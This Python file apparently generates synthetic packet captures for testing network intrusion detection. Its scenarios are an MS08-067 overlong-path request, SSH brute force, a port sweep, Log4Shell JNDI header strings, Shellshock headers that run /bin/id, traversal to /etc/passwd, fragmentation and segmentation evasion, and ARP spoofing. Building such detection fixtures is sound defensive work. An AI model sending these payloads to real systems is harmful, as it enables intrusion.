"""Each shipped capture: a function that fills a :class:`Capture`, in a table by file name."""

from __future__ import annotations

import struct
from collections.abc import Callable

from scapy.layers.inet import IP, TCP, fragment
from scapy.layers.l2 import ARP
from scapy.packet import Raw

from crafting import smb1
from crafting.conversation import DATABASE, DESKTOP, DNS, FILES, WEB, Capture, Host, Tcp, http_get


def _smb_to_pipe(capture: Capture, client: Host, server: Host, sport: int) -> Tcp:
    talk = Tcp(capture, client, server, sport, 445).open()
    steps = (
        (smb1.negotiate(), smb1.negotiate_reply()),
        (smb1.session_setup(), smb1.session_setup_reply()),
        (smb1.tree_connect(server.address), smb1.tree_connect_reply()),
        (smb1.open_pipe("\\browser"), smb1.open_pipe_reply()),
        (smb1.transact(smb1.rpc_bind(smb1.SRVSVC)), smb1.transact_reply(smb1.rpc_bind_ack())),
    )
    for ask, answer in steps:
        talk.say(0, ask)
        talk.say(1, answer)
    return talk


def conficker(capture: Capture) -> None:
    """An infected desktop calls NetPathCanonicalize with a path that overruns (MS08-067)."""
    capture.arp(DESKTOP, FILES)
    talk = _smb_to_pipe(capture, DESKTOP, FILES, 49301)
    filler = b"\x90" * 360  # stands for the code a worm would bring; there is none here
    path = b"\\\x00" + filler + "\\..\\..\\AAAAAAAA".encode("utf-16-le") + b"\x00\x00"
    stub = smb1.path_canonicalize("files-1", path)
    talk.say(0, smb1.transact(smb1.rpc_request(smb1.OPNUM_PATH_CANONICALIZE, stub)))
    talk.close(1)


def srvsvc_benign(capture: Capture) -> None:
    """The same call as an administrator's tool makes it: a short path that stays where it is."""
    talk = _smb_to_pipe(capture, DESKTOP, FILES, 49302)
    stub = smb1.path_canonicalize("files-1", smb1.utf16("\\share\\reports\\..\\2026"))
    talk.say(0, smb1.transact(smb1.rpc_request(smb1.OPNUM_PATH_CANONICALIZE, stub)))
    talk.say(1, smb1.transact_reply(smb1.rpc_response(struct.pack("<IIII", 0, 0, 1, 0))))
    talk.close()


def ssh_brute_force(capture: Capture) -> None:
    """Twenty logins in ten seconds, each given up by the server."""
    for attempt in range(20):
        talk = Tcp(capture, DESKTOP, DATABASE, 50000 + attempt, 22).open()
        talk.say(1, b"SSH-2.0-OpenSSH_9.2p1\r\n")
        talk.say(0, b"SSH-2.0-libssh_0.9.6\r\n")
        talk.say(0, struct.pack(">IBB", 60, 4, 20) + bytes(58))
        talk.close(1)
        capture.wait(0.4)


def port_sweep(capture: Capture) -> None:
    """Sixty ports of one server, none open."""
    for port in range(20, 80):
        Tcp(capture, DESKTOP, DATABASE, 40000 + port, port).refuse()
        capture.wait(0.02)


def log4shell(capture: Capture) -> None:
    """A lookup expression in a header (CVE-2021-44228), plain and nested."""
    http_get(capture, DESKTOP, WEB, 51001, "/", "X-Api-Version: ${jndi:ldap://10.20.0.17:1389/a}\r\n")
    http_get(
        capture, DESKTOP, WEB, 51002, "/", "X-Api-Version: ${${lower:j}ndi:${lower:l}dap://10.20.0.17/a}\r\n"
    )


def shellshock(capture: Capture) -> None:
    """A function definition with a tail in a header (CVE-2014-6271)."""
    http_get(capture, DESKTOP, WEB, 51011, "/cgi-bin/status", "Cookie: () { :; }; /bin/id\r\n")


def traversal(capture: Capture) -> None:
    """Climbing out of the document root, once plainly and once encoded."""
    http_get(capture, DESKTOP, WEB, 51021, "/static/../../../../etc/passwd")
    http_get(capture, DESKTOP, WEB, 51022, "/cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh")


def split_exploit(capture: Capture) -> None:
    """A request cut into segments of seven bytes, so that no packet holds the attack."""
    talk = Tcp(capture, DESKTOP, WEB, 51031, 80).open()
    talk.say(0, b"GET /cgi-bin/status HTTP/1.1\r\nHost: web-1\r\nReferer: () { :; }; /bin/id\r\n\r\n", mss=7)
    talk.say(1, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
    talk.close()


def fragmented(capture: Capture) -> None:
    """An attack in one segment that travels in IP fragments of 24 bytes, the last one first."""
    talk = Tcp(capture, DESKTOP, WEB, 51041, 80).open()
    request = b"GET /index.html HTTP/1.1\r\nHost: web-1\r\nCookie: () { :; }; /usr/bin/id\r\n\r\n"
    head = TCP(sport=51041, dport=80, flags="PA", seq=talk.seq[0], ack=talk.seq[1], window=64240)
    whole = IP(bytes(IP(src=DESKTOP.address, dst=WEB.address, id=4242) / head / Raw(request)))
    for piece in reversed(fragment(whole, fragsize=24)):
        capture.send(DESKTOP, WEB, piece)
    talk.seq[0] += len(request)
    talk.say(1, b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
    talk.close()


def spoofed(capture: Capture) -> None:
    """The desktop claims the database's address, by ARP and by IP."""
    claim = ARP(op=2, hwsrc=DESKTOP.mac, psrc=DATABASE.address, hwdst=WEB.mac, pdst=WEB.address)
    capture.send(DESKTOP, WEB, claim)
    forged = Host("forged", DESKTOP.mac, DATABASE.address)
    capture.udp(forged, WEB, 5353, 5353, b"not from the database")


def everyday(capture: Capture) -> None:
    """What VMs do all day: name look-up, a page, a ping, a file server's pipe."""
    capture.arp(DESKTOP, DNS)
    question = b"\x03web\x07example\x00\x00\x01\x00\x01"
    capture.udp(DESKTOP, DNS, 53111, 53, struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + question)
    record = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x3c\x00\x04" + bytes((10, 20, 0, 10))
    capture.udp(DNS, DESKTOP, 53, 53111, struct.pack(">HHHHHH", 7, 0x8180, 1, 1, 0, 0) + question + record)
    http_get(capture, DESKTOP, WEB, 51051, "/index.html?lang=en&q=a%20b", "Cookie: session=1f2e3d\r\n")
    http_get(capture, DESKTOP, WEB, 51052, "/docs/../docs/manual.html")
    capture.ping(DESKTOP, WEB)
    srvsvc_benign(capture)


SCENARIOS: dict[str, Callable[[Capture], None]] = {
    "conficker": conficker,
    "srvsvc-benign": srvsvc_benign,
    "ssh-brute-force": ssh_brute_force,
    "port-sweep": port_sweep,
    "log4shell": log4shell,
    "shellshock": shellshock,
    "traversal": traversal,
    "split-exploit": split_exploit,
    "fragmented-exploit": fragmented,
    "spoofed": spoofed,
    "everyday": everyday,
}
